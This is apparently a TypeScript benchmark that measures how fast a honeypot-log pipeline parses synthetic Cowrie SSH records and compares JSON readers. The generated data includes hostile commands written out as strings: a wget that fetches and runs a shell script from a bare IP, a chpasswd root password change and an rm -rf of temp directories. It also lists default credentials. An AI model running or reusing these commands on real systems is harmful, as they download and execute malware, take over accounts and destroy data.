/**
 * TAHOE core throughput on Cowrie records: parsemain + Cowrie filter + row building, per core (one thread),
 * next to a floor measured in the same run on the same records (UTF-8 decode + JSON.parse + one SHA-256).
 * Also compares JSON readers on the same lines (JSON.parse, this project's lossless reader, lossless-json).
 *
 * Fairness: the floor hashes with the runtime's fastest SHA-256 entry point, the one the core uses
 * (`crypto.hash`, a single call, on Node ≥ 20.12 and the Lambda nodejs22.x runtime; `createHash` where it is
 * missing), so that a slower floor does not flatter the ratio; the former floor (`createHash` always) is still
 * reported for comparison with earlier figures. The deployed bundle races the floors before the tsx-loaded
 * modules ever run, so its passes do not share the heap with a second copy of the core's memo.
 *
 * Records are generated in memory from a seeded PRNG: attack sessions with every Cowrie event id family in
 * realistic proportions (connect, client.*, many failed logins, commands, downloads, uploads, tunnels, close).
 */
import * as crypto from 'node:crypto';
import { createHash } from 'node:crypto';
import Module from 'node:module';
import { join } from 'node:path';
import { buildSync } from 'esbuild';
import { parse as losslessParse } from 'lossless-json';
import { loads } from '../../lambdas/tahoe/json';
import { parsemain } from '../../lambdas/tahoe/parsemain';
import { RecordSplitter } from '../../lambdas/tahoe/records';
import { toRows } from '../../lambdas/tahoe/rows';

const N = Number(process.env.TAHOE_BENCH_RECORDS ?? 200_000);
const ORG = createHash('sha256').update('synthetic-org:bench').digest('hex');

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(20210301);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;
const hex = (n: number) => Array.from({ length: n }, () => Math.floor(rand() * 16).toString(16)).join('');

const USERS = ['root', 'admin', 'ubnt', 'user', 'test', 'oracle', 'pi', 'guest', 'support', 'ftpuser', 'ROOT '];
const PASSWORDS = ['123456', 'admin', 'password', 'root', '1234', 'qwerty', 'ubnt', 'raspberry', 'P@ssw0rd', ''];
const COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'cd /tmp || cd /var/run || cd /mnt; wget http://45.95.147.10/bins.sh; chmod 777 bins.sh; sh bins.sh',
  'free -m',
  'ls -lh $(which ls)',
  'echo "root:Qwe123"|chpasswd',
  'rm -rf /tmp/* /var/tmp/*',
  'crontab -l',
  'w',
];
const SENSORS = ['lv-ssh-01', 'lv-ssh-02', 'reno-ssh-01', 'sf-telnet-01'];
const CLIENTS = ['SSH-2.0-libssh2_1.8.0', 'SSH-2.0-Go', 'SSH-2.0-OpenSSH_7.4', 'SSH-2.0-PuTTY_Release_0.70'];
const ATTACKERS = Array.from({ length: 5000 }, () =>
  [1 + Math.floor(rand() * 223), Math.floor(rand() * 256), Math.floor(rand() * 256), 1 + Math.floor(rand() * 254)].join(
    '.',
  ),
);
const HOSTS = ['45.95.147.10', 'dl.example.test', '185.244.25.1', 'update.bad.example'];

let clock = Date.UTC(2020, 4, 3, 17, 0, 0) * 1000;
function ts(): string {
  clock += Math.floor(rand() * 3_000_000);
  const ms = Math.floor(clock / 1000);
  const us = String(clock % 1_000_000).padStart(6, '0');
  return `${new Date(ms).toISOString().slice(0, 19)}.${us}Z`;
}

function session(out: string[]): void {
  const sid = hex(12);
  const sensor = pick(SENSORS);
  const ip = pick(ATTACKERS);
  const base = { session: sid, sensor, src_ip: ip };
  const push = (eventid: string, fields: Record<string, unknown>) =>
    out.push(JSON.stringify({ eventid, ...fields, ...base, timestamp: ts(), isError: 0 }));
  push('cowrie.session.connect', {
    src_port: 30000 + Math.floor(rand() * 30000),
    dst_ip: '10.0.0.5',
    dst_port: 22,
    protocol: 'ssh',
    message: `New connection: ${ip} [session: ${sid}]`,
  });
  push('cowrie.client.version', { version: pick(CLIENTS), message: 'Remote SSH version' });
  push('cowrie.client.kex', {
    hassh: hex(32),
    encCS: ['aes128-ctr', 'aes256-ctr'],
    macCS: ['hmac-sha2-256'],
    compCS: ['none'],
    message: 'SSH client hassh fingerprint',
  });
  const tries = 1 + Math.floor(rand() * 6);
  for (let i = 0; i < tries; i++) {
    const username = pick(USERS);
    const password = pick(PASSWORDS);
    push('cowrie.login.failed', { username, password, message: `login attempt [${username}/${password}] failed` });
  }
  if (rand() < 0.6) {
    push('cowrie.login.success', { username: 'root', password: pick(PASSWORDS), message: 'login attempt succeeded' });
    push('cowrie.client.size', { width: 80, height: 24, message: 'Terminal Size: 80 24' });
    push('cowrie.client.var', { name: 'LANG', value: 'en_US.UTF-8', message: 'request_env: LANG=en_US.UTF-8' });
    push('cowrie.log.open', { ttylog: `var/lib/cowrie/tty/${hex(64)}`, message: 'Opening TTY Log' });
    const cmds = 1 + Math.floor(rand() * 5);
    for (let i = 0; i < cmds; i++) {
      const input = pick(COMMANDS);
      push(pick(['cowrie.command.input', 'cowrie.command.input', 'cowrie.command.success', 'cowrie.command.failed']), {
        input,
        message: `CMD: ${input}`,
      });
    }
    if (rand() < 0.4) {
      const url = `http://${pick(HOSTS)}/bins/${pick(['x86', 'arm7', 'mips'])}`;
      if (rand() < 0.8) {
        const sha = hex(64);
        push('cowrie.session.file_download', {
          url,
          shasum: sha,
          outfile: `var/lib/cowrie/downloads/${sha}`,
          message: 'Downloaded URL',
        });
      } else push('cowrie.session.file_download.failed', { url, message: 'Attempt to download file(s) failed' });
    }
    if (rand() < 0.15) {
      const sha = hex(64);
      push('cowrie.session.file_upload', {
        filename: pick(['mirai.arm', 'x.sh', 'a']),
        shasum: sha,
        outfile: `var/lib/cowrie/downloads/${sha}`,
        message: pick(['SFTP Uploaded file', `Saved redir contents with SHA-256 ${sha}`]),
      });
    }
    push('cowrie.log.closed', {
      ttylog: `var/lib/cowrie/tty/${hex(64)}`,
      size: Math.floor(rand() * 30000),
      message: 'Closing TTY Log',
    });
  }
  if (rand() < 0.1) {
    const dst = { dst_ip: pick(['smtp.mail.example', '93.184.216.34', 'ya.ru']), dst_port: pick([25, 80, 443, 587]) };
    push('cowrie.direct-tcpip.request', { ...dst, src_port: 50361, message: 'direct-tcp connection request' });
    push('cowrie.direct-tcpip.data', { ...dst, data: "b'\\x16\\x03\\x01\\x00\\xa5'", message: 'direct-tcp forward' });
  }
  push('cowrie.session.closed', { duration: Math.round(rand() * 600_000) / 1000, message: 'Connection lost' });
}

function generate(n: number): Buffer[] {
  const lines: string[] = [];
  while (lines.length < n) session(lines);
  return lines.slice(0, n).map((l) => Buffer.from(l, 'utf8'));
}

/** One NDJSON upload in memory, read back in 64 KiB chunks as a stream would deliver it. */
function* chunksOf(upload: Buffer): Generator<Buffer> {
  for (let i = 0; i < upload.length; i += 65536) yield upload.subarray(i, i + 65536);
}

/**
 * Records per CPU-second of one pass of `fn` over every record of the upload, read with the RecordSplitter.
 * CPU time (user + system, garbage collector threads included) rather than wall time: it is the cost per core,
 * and it does not count the time this process waits for a core on a shared machine.
 */
function pass(upload: Buffer, fn: (b: Buffer) => void): { cpu: number; wall: number } {
  (globalThis as { gc?: () => void }).gc?.();
  const w0 = process.hrtime.bigint();
  const t0 = process.cpuUsage();
  const splitter = new RecordSplitter('ndjson');
  let n = 0;
  for (const chunk of chunksOf(upload)) {
    for (const rec of splitter.push(chunk)) {
      if ('bytes' in rec) fn(rec.bytes);
      n++;
    }
  }
  for (const rec of splitter.end()) if ('bytes' in rec) fn(rec.bytes);
  const used = process.cpuUsage(t0);
  return { cpu: n / ((used.user + used.system) / 1e6), wall: n / (Number(process.hrtime.bigint() - w0) / 1e9) };
}

/**
 * Best records/s of each contender over `rounds` rounds. Contenders alternate within a round, so a load spike
 * on this shared machine hits them alike and the ratios stay meaningful.
 */
function race(
  upload: Buffer,
  contenders: Record<string, (b: Buffer) => void>,
  rounds = 3,
): Record<string, { cpu: number; wall: number }> {
  const best: Record<string, { cpu: number; wall: number }> = {};
  for (let r = 0; r < rounds; r++) {
    for (const [label, fn] of Object.entries(contenders)) {
      const rate = pass(upload, fn);
      const b = best[label] ?? { cpu: 0, wall: 0 };
      best[label] = { cpu: Math.max(b.cpu, rate.cpu), wall: Math.max(b.wall, rate.wall) };
    }
  }
  for (const [label, rate] of Object.entries(best)) {
    process.stderr.write(`  ${label}: ${Math.round(rate.cpu)} rec/CPU-s, ${Math.round(rate.wall)} rec/s\n`);
  }
  return best;
}

/**
 * The core as Lambda runs it: bundled by esbuild into one module (aws-lambda-nodejs does the same), without
 * the per-import accessors a module-by-module load adds.
 */
function loadBundledCore(): { parsemain: typeof parsemain; toRows: typeof toRows } {
  const out = buildSync({
    entryPoints: [join(__dirname, '..', '..', 'lambdas', 'tahoe', 'index.ts')],
    bundle: true,
    platform: 'node',
    format: 'cjs',
    target: 'node20',
    write: false,
  });
  const mod = new Module('tahoe-bundle') as Module & { _compile(code: string, filename: string): void };
  mod._compile((out.outputFiles[0] as { text: string }).text, join(__dirname, 'tahoe-bundle.js'));
  return mod.exports as { parsemain: typeof parsemain; toRows: typeof toRows };
}

let peakRss = 0;
const sampler = setInterval(() => {
  peakRss = Math.max(peakRss, process.memoryUsage().rss);
}, 50);
sampler.unref();

let records: Buffer[] = generate(N);
const upload = Buffer.concat(records.flatMap((r) => [r, Buffer.from('\n')]));
const sampleUpload = Buffer.concat(records.slice(0, 50_000).flatMap((r) => [r, Buffer.from('\n')]));
const families = new Map<string, number>();
for (const b of records.slice(0, 20_000)) {
  const id = (JSON.parse(b.toString('utf8')) as { eventid: string }).eventid;
  families.set(id, (families.get(id) ?? 0) + 1);
}
// Only the uploads are kept: 200k small Buffer objects would weigh on every garbage collection measured below.
records = [];

let sink = 0;
const rowContext = {
  tenant: 'bench',
  objectSha256: 'ab'.repeat(32),
  objectKey: 'raw/tenant=bench/typetag=cowrie/dt=2020-05-03/hour=17/x.jsonl',
  receivedAt: '2020-05-03T18:00:00.000Z',
  timezone: 'UTC',
  orgid: ORG,
};
const counts = { records: 0, ok: 0, instances: 0, edges: 0 };

function coreRun(core: { parsemain: typeof parsemain; toRows: typeof toRows }) {
  const ctx = { ...rowContext, recordNo: 0 };
  const options = { receivedAt: 1588528800 };
  return (b: Buffer) => {
    const r = core.parsemain('cowrie', ORG, 'UTC', b, options);
    ctx.recordNo++;
    const rows = core.toRows(r, ctx);
    counts.records++;
    if (r.outcome === 'SUCCESS') counts.ok++;
    counts.instances += rows.instances.length;
    counts.edges += rows.edges.length;
  };
}

// The SHA-256 entry point the core uses (canonical.ts): one call where the runtime has it.
const oneShot = (crypto as { hash?: (algorithm: string, data: string, encoding: 'hex') => string }).hash;
const sha256Hex = (text: string): string =>
  oneShot ? oneShot('sha256', text, 'hex') : createHash('sha256').update(text).digest('hex');

function floorRun(b: Buffer): void {
  const text = b.toString('utf8');
  const v = JSON.parse(text) as { eventid: string };
  sink += sha256Hex(text).length + v.eventid.length;
}

const main = race(upload, {
  floor: floorRun,
  'floor (createHash)': (b) => {
    const text = b.toString('utf8');
    const v = JSON.parse(text) as { eventid: string };
    sink += createHash('sha256').update(text).digest('hex').length + v.eventid.length;
  },
  bundled: coreRun(loadBundledCore()),
});
const floor = main.floor as { cpu: number; wall: number };
const floorCreateHash = main['floor (createHash)'] as { cpu: number; wall: number };
const bundled = main.bundled as { cpu: number; wall: number };
// Informational (module-by-module loading is not how Lambda runs the core): after the main race, against the
// floor measured again alongside it.
const side = race(upload, { floor: floorRun, modular: coreRun({ parsemain, toRows }) });
const sideFloor = side.floor as { cpu: number; wall: number };
const modular = side.modular as { cpu: number; wall: number };

const readers = race(sampleUpload, {
  'JSON.parse': (b) => {
    sink += Object.keys(JSON.parse(b.toString('utf8')) as object).length;
  },
  loads: (b) => {
    sink += (loads(b.toString('utf8')) as Map<string, unknown>).size;
  },
  'lossless-json': (b) => {
    sink += Object.keys(losslessParse(b.toString('utf8')) as object).length;
  },
});
const jsonParse = (readers['JSON.parse'] as { cpu: number }).cpu;
const ours = (readers.loads as { cpu: number }).cpu;
const ll = (readers['lossless-json'] as { cpu: number }).cpu;
clearInterval(sampler);
peakRss = Math.max(peakRss, process.memoryUsage().rss);

const fmt = (x: number) => Math.round(x).toLocaleString('en-US');
const pct = (x: number, of: number) => `${((x / of) * 100).toFixed(0)}%`;
const us = (rate: number) => (1e6 / rate).toFixed(2);
const row = (label: string, r: { cpu: number; wall: number }, f: { cpu: number; wall: number }) =>
  `| ${label} | ${fmt(r.cpu)} | ${us(r.cpu)} | ${pct(r.cpu, f.cpu)} | ${fmt(r.wall)} | ${pct(r.wall, f.wall)} |`;
const lines = [
  '## TAHOE core: Cowrie records per second (one core)',
  '',
  `${fmt(N)} generated Cowrie records in one NDJSON upload (${(upload.length / N).toFixed(0)} bytes a record on ` +
    `average, ${families.size} event ids), read in 64 KiB chunks by the record splitter; best of 3 rounds, ` +
    'contenders alternating within each round.',
  '',
  '| pipeline (each includes reading the records) | records per CPU-second | CPU µs per record | vs floor | records/s (wall) | vs floor |',
  '|---|---:|---:|---:|---:|---:|',
  row('floor: UTF-8 decode + JSON.parse + one SHA-256 (crypto.hash, as the core hashes)', floor, floor),
  row('former floor: the same with createHash().update().digest()', floorCreateHash, floor),
  row('parsemain + Cowrie filter + toRows, esbuild bundle (as deployed)', bundled, floor),
  row('parsemain + Cowrie filter + toRows, modules loaded by tsx (separate race, own floor)', modular, sideFloor),
  '',
  "CPU-seconds include the garbage collector's helper threads and exclude waiting for a core on a shared machine.",
  `Target: at least 25% of the floor (as deployed, per CPU-second) — ${bundled.cpu / floor.cpu >= 0.25 ? 'met' : 'NOT met'} ` +
    `(${pct(bundled.cpu, floorCreateHash.cpu)} of the former floor).`,
  `Per record: ${(counts.instances / counts.records).toFixed(1)} instance rows, ` +
    `${(counts.edges / counts.records).toFixed(1)} edge rows, ${((counts.ok / counts.records) * 100).toFixed(0)}% SUCCESS. ` +
    `Peak RSS ${(peakRss / 2 ** 20).toFixed(0)} MiB (the upload is held in memory).`,
  '',
  '| JSON reader (same 50,000 lines) | records per CPU-second | exact for TAHOE (int vs float, big ints, NaN, duplicate keys, key order) |',
  '|---|---:|---|',
  `| JSON.parse | ${fmt(jsonParse)} | no |`,
  `| lambdas/tahoe/json.ts loads | ${fmt(ours)} | yes |`,
  `| lossless-json parse | ${fmt(ll)} | no: throws on duplicate keys and NaN, reorders integer-like keys |`,
  '',
];
process.stdout.write(`${lines.join('\n')}\n`);
if (sink === -1) process.stderr.write('unreachable\n');
